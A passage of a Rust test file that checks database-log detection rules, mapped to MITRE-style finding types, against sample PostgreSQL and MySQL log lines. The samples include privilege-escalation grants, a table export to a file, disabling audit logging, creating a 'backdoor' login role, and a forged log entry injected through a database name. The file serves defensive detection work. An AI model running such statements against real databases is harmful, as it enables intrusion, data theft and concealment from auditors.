        .lines()
        .find(|l| l.contains("CREATE TRIGGER audit_orders"))
        .expect("the example log line")
        .trim_start();
    let f = fires(
        &blocks[3],
        &format!("{line}\n"),
        "Custom:RDS/TriggerOutsideMigrations",
    );
    assert_eq!(f.title, "alice created a trigger on orders-db");
    assert_eq!(f.severity.value(), 5.0);
    assert_eq!(f.mitre, vec!["T1546"]);
    let deploy = line.replace("alice@", "deploy@");
    silent(&blocks[3], &format!("{deploy}\n"));
}

#[test]
fn refused_statements_are_attempts() {
    // PostgreSQL refuses a GRANT: the ERROR carries the statement. Nothing was
    // granted (no log_statement line here, as with log_statement = 'none'), but it
    // was tried: the same finding type at Medium, titled refused, with the error.
    let log = "2026-12-01 10:00:01 UTC:10.0.3.14(41000):shop@shop:[20000]:ERROR:  permission denied to grant role \"rds_superuser\"\n\
               2026-12-01 10:00:01 UTC:10.0.3.14(41000):shop@shop:[20000]:STATEMENT:  GRANT rds_superuser TO shop\n";
    let f = refused(ROLE, log, "PrivilegeEscalation:RDS/RoleElevated", 5.0);
    assert!(
        f.description.contains("permission denied to grant role"),
        "{}",
        f.description
    );
    refused(
        EXPORT,
        &log.replace("GRANT rds_superuser TO shop", "COPY orders TO '/tmp/o.csv'"),
        "Exfiltration:RDS/BulkExport",
        5.0,
    );
    // Refused, then the same user succeeds: one finding, risen to the rule's
    // severity, titled as the rule's own.
    let then = format!(
        "{log}2026-12-01 10:05:00 UTC:10.0.3.14(41000):shop@shop:[20000]:LOG:  statement: GRANT rds_superuser TO shop\n"
    );
    let f = fires(ROLE, &then, "PrivilegeEscalation:RDS/RoleElevated");
    assert_eq!(f.severity.value(), 8.0);
    assert_eq!(f.count, 2);
    assert!(!f.title.starts_with("Refused"), "{}", f.title);
    // The ERROR after a statement already logged (log_statement, pgaudit) is the
    // same attempt, not a second one.
    let echo = format!(
        "2026-12-01 10:00:00 UTC:10.0.3.14(41000):shop@shop:[20000]:LOG:  statement: GRANT rds_superuser TO shop\n{log}"
    );
    let f = fires(ROLE, &echo, "PrivilegeEscalation:RDS/RoleElevated");
    assert_eq!(f.count, 1);
    // Errors that are not refusals (a syntax error) are not attempts of the act.
    silent(
        ROLE,
        &log.replace(
            "permission denied to grant role \"rds_superuser\"",
            "syntax error at or near \"TO\"",
        ),
    );
    // A refused attempt to turn audit logging off (MySQL 1227) and to create a login.
    refused(
        TAMPER,
        &my_query("SET GLOBAL server_audit_logging = OFF", 1227),
        "Stealth:RDS/AuditTampering",
        5.0,
    );
    refused(
        ACCOUNT,
        "2026-12-01 10:00:01 UTC:10.0.3.14(41000):shop@shop:[20000]:ERROR:  permission denied to create role\n\
         2026-12-01 10:00:01 UTC:10.0.3.14(41000):shop@shop:[20000]:STATEMENT:  CREATE ROLE backdoor LOGIN PASSWORD 'x'\n",
        "Persistence:RDS/AccountCreated",
        4.0,
    );
}

/// One finding of `ty`, of refused attempts only: Medium, titled refused.
#[track_caller]
fn refused(rule: &str, log: &str, ty: &str, severity: f64) -> Finding {
    let f = fires(rule, log, ty);
    assert_eq!(f.severity.value(), severity, "{f:#?}");
    assert!(f.title.starts_with("Refused: "), "{}", f.title);
    assert!(
        f.description.contains("The server refused it"),
        "{}",
        f.description
    );
    f
}

#[test]
fn log_injection() {
    const RULE: &str = include_str!("../../../rules/database/log-injection.yml");
    const T: &str = "DefenseEvasion:RDS/LogInjection";
    // A brute force whose database name forges a successful login, as a real
    // PostgreSQL 15 wrote it (keibi-parse's postgresql-injection.log).
    let log = concat!(
        "2026-12-06 06:51:03 UTC:127.0.0.1(42702):[unknown]@[unknown]:[11921]:LOG:  connection received: host=127.0.0.1 port=42702\n",
        "2026-12-06 06:51:03 UTC:127.0.0.1(42702):postgres@x:[1]:LOG:  connection authorized: user=postgres database=x:[11921]:FATAL:  password authentication failed for user \"postgres\"\n",
        "2026-12-06 06:51:03 UTC:127.0.0.1(42702):postgres@x:[1]:LOG:  connection authorized: user=postgres database=x:[11921]:DETAIL:  Connection matched pg_hba.conf line 91: \"host    all             all             127.0.0.1/32            scram-sha-256\"\n",
    );
    let f = fires(RULE, log, T);
    assert_eq!(f.severity.value(), 7.0);
    // The description quotes the name (texts collapse runs of spaces).
    assert!(
        f.description
            .contains("in the database: x:[1]:LOG: connection authorized"),
        "{}",
        f.description
    );
    assert!(f.title.contains("127.0.0.1"), "{}", f.title);
    // Ordinary names, and SQL text that looks like a prefix, are not attempts.
    silent(
        RULE,
        &pg_statement("SELECT 'x:[5]:LOG:  statement: DROP TABLE t'"),
    );
    silent(RULE, &pg_statement("SELECT 1"));
}
